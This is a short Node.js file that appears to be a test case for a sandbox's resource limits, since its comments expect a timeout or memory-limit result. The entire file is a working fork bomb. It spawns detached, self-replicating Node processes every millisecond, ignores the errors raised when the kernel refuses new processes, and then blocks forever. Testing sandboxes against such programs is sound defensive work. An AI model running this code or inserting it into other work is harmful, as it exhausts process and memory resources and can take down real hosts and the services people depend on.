// Start processes without end, each of which does the same, and go on when the kernel refuses.
// program 1
// expect: timeout | memory_limit
const { spawn } = require("child_process");
const bomb = `(${more})(${JSON.stringify(process.execPath)})`;

function more(node) {
  const { spawn } = require("child_process");
  const text = `(${more})(${JSON.stringify(node)})`;
  const again = () => {
    spawn(node, ["-e", text], { detached: true }).on("error", () => {});
    setTimeout(again, 1);
  };
  again();
}

function attack(token) {
  spawn(process.execPath, ["-e", bomb], { detached: true, stdio: "inherit" }).on("error", () => {});
  return new Promise(() => setInterval(() => {}, 1000));
}
